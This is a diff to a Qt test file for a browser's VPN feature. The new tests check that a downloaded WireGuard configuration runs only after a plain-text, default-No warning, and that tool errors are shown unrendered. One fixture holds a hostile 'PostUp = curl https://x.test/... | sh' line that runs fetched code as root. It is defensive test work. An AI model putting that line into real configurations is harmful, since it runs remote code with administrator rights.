@@ -254,7 +254,7 @@ private Q_SLOTS:
         QTest::addColumn<QString>("file");
         QTest::addColumn<QString>("up");
         QTest::addColumn<QString>("down");
-        QTest::newRow("openvpn") << "OFFICE.OVPN" << "openvpn --config %1 --daemon" << "pkill -x openvpn";
+        QTest::newRow("openvpn") << "OFFICE.OVPN" << "openvpn --config %1 --daemon --writepid " << "kill -TERM ";
         QTest::newRow("wireguard") << "de1.ovpn.conf" << "wg-quick up %1" << "wg-quick down %1";
     }
     void vpnButtonConnectsAndDisconnects()
@@ -267,13 +267,84 @@ private Q_SLOTS:
         auto w = makeWindow(false);
         w->setVpnFileChooser([path](QWidget *) { return path; });
         w->onVPNDialog();
-        QTRY_VERIFY_WITH_TIMEOUT(tools->calls().contains(up.replace(QLatin1String("%1"), path)), 10000);
+        auto called = [this](const QString &start) {
+            const QStringList calls = tools->calls();
+            return std::any_of(calls.cbegin(), calls.cend(), [&](const QString &c) { return c.startsWith(start); });
+        };
+        QTRY_VERIFY_WITH_TIMEOUT(called(up.replace(QLatin1String("%1"), path)), 10000);
+        QTRY_VERIFY_WITH_TIMEOUT(w->vpn()->hasOwnTunnel(), 10000);
         setTunnel(*w, true);
         // The tools take the tunnel down; the next probe must not see it again.
         tools->setIpOutputFromSample(QStringLiteral("host-no-tunnel"));
         ModalAnswerer yes({QStringLiteral("Yes")});
         w->onVPNDisconnect();
-        QTRY_VERIFY_WITH_TIMEOUT(tools->calls().contains(down.replace(QLatin1String("%1"), path)), 10000);
+        QTRY_VERIFY_WITH_TIMEOUT(called(down.replace(QLatin1String("%1"), path)), 10000);
+    }
+
+    // A tool's failure reaches the status bar and a message box, as plain
+    // text. A configuration the browser downloaded is used only after a
+    // question (default No) that lists the commands it runs as root.
+    void vpnFailuresAndDownloadedConfigurations_data()
+    {
+        QTest::addColumn<bool>("downloaded");
+        QTest::addColumn<QString>("answer");
+        QTest::addColumn<bool>("fails");
+        QTest::newRow("tool fails") << false << "" << true;
+        QTest::newRow("downloaded, refused") << true << "No" << false;
+        QTest::newRow("downloaded, accepted") << true << "Yes" << false;
+    }
+    void vpnFailuresAndDownloadedConfigurations()
+    {
+        QFETCH(bool, downloaded);
+        QFETCH(QString, answer);
+        QFETCH(bool, fails);
+        const QString path = dir->downloadDir() + QStringLiteral("/de1.conf");
+        QFile file(path);
+        QVERIFY(file.open(QIODevice::WriteOnly));
+        file.write("[Interface]\nPrivateKey = k\nPostUp = curl https://x.test/<b>i</b> | sh\n");
+        file.close();
+        if (downloaded)
+            dir->writeFile(QStringLiteral("downloads.json"),
+                           QJsonDocument(QJsonArray{QJsonObject{{"url", "https://x.test/de1.conf"}, {"filename", "de1.conf"},
+                                                                {"path", path}}}).toJson());
+        if (fails)
+            tools->setResult(QStringLiteral("wg-quick"), 1, "Line unrecognized: `<b>Bold</b>'\nConfiguration parsing error\n");
+        auto w = makeWindow(false);
+        w->setVpnFileChooser([path](QWidget *) { return path; });
+        QString question;
+        Qt::TextFormat format = Qt::AutoText;
+        bool defaultNo = false;
+        if (downloaded)
+            ModalAnswerer::answer([&](QWidget *widget) {
+                auto *box = qobject_cast<QMessageBox *>(widget);
+                QVERIFY(box);
+                question = box->text();
+                format = box->textFormat();
+                defaultNo = box->defaultButton() == box->button(QMessageBox::No);
+                box->button(answer == QStringLiteral("Yes") ? QMessageBox::Yes : QMessageBox::No)->click();
+            });
+        w->onVPNDialog();
+        if (downloaded) {
+            QVERIFY2(question.contains(QStringLiteral("runs these commands as administrator:\n    PostUp = curl https://x.test/<b>i</b> | sh\n")),
+                     qPrintable(question));
+            QCOMPARE(format, Qt::PlainText);
+            QVERIFY(defaultNo);
+        }
+        if (answer == QStringLiteral("No")) {
+            QTest::qWait(300);
+            QCOMPARE(tools->callsOf(QStringLiteral("wg-quick")), QStringList());
+            return;
+        }
+        QTRY_COMPARE_WITH_TIMEOUT(tools->callsOf(QStringLiteral("wg-quick")), QStringList{QStringLiteral("wg-quick up ") + path}, 10000);
+        if (!fails)
+            return;
+        QMessageBox *box = nullptr;
+        QTRY_VERIFY_WITH_TIMEOUT((box = w->findChild<QMessageBox *>(QStringLiteral("vpnFailureBox"))) && box->isVisible(), 10000);
+        QCOMPARE(box->text(), QStringLiteral("Could not connect: Line unrecognized: `<b>Bold</b>'\nConfiguration parsing error"));
+        QCOMPARE(box->textFormat(), Qt::PlainText);
+        QCOMPARE(w->statusBar()->currentMessage(),
+                 QStringLiteral("Could not connect: Line unrecognized: `<b>Bold</b>' Configuration parsing error"));
+        box->close();
     }
 
     // With several tabs a download is saved once, not once per tab.
